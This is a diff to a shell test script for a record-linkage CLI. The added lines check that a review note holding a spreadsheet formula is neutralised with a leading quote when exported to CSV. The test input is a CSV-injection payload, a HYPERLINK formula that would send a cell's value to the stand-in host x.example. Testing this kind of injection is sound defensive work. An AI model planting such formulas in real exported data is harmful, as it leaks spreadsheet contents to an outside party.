@@ -105,6 +105,15 @@ while IFS=$'\t' read -r id a b; do
 done < pairs.tsv
 [ -s merged.tsv ] || fail "no review pair joins two workers (seed $SEED)"
 expect_eq "$(sq t.db "SELECT decided_by FROM link_decision LIMIT 1")" reviewer1 "decided_by is --user"
+# a note that a spreadsheet would run as a formula reaches the review CSV as
+# text: csvout's neutralisation (a leading quote), whatever the cell holds
+read -r fid _ < merged.tsv
+"$TW_BIN" persons decide --db t.db "$fid" same --reason '=HYPERLINK("http://x.example/?"&A1,"open")' \
+  --user reviewer1 > /dev/null || fail "decide with a formula note"
+"$TW_BIN" persons review --db t.db --decided --limit 100000 > review_decided.csv ||
+  fail "persons review --decided"
+grep -q "^$fid,.*,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\$" review_decided.csv ||
+  fail "the formula note is not neutralised: $(grep "^$fid," review_decided.csv)"
 expect_eq "$(sq t.db "SELECT json_extract(detail, '$.by') FROM audit_log WHERE action =
                       'person.review' LIMIT 1")" reviewer1 "the audit entry names the reviewer"
 "$TW_BIN" link --db t.db --quiet || fail "link after the decisions"
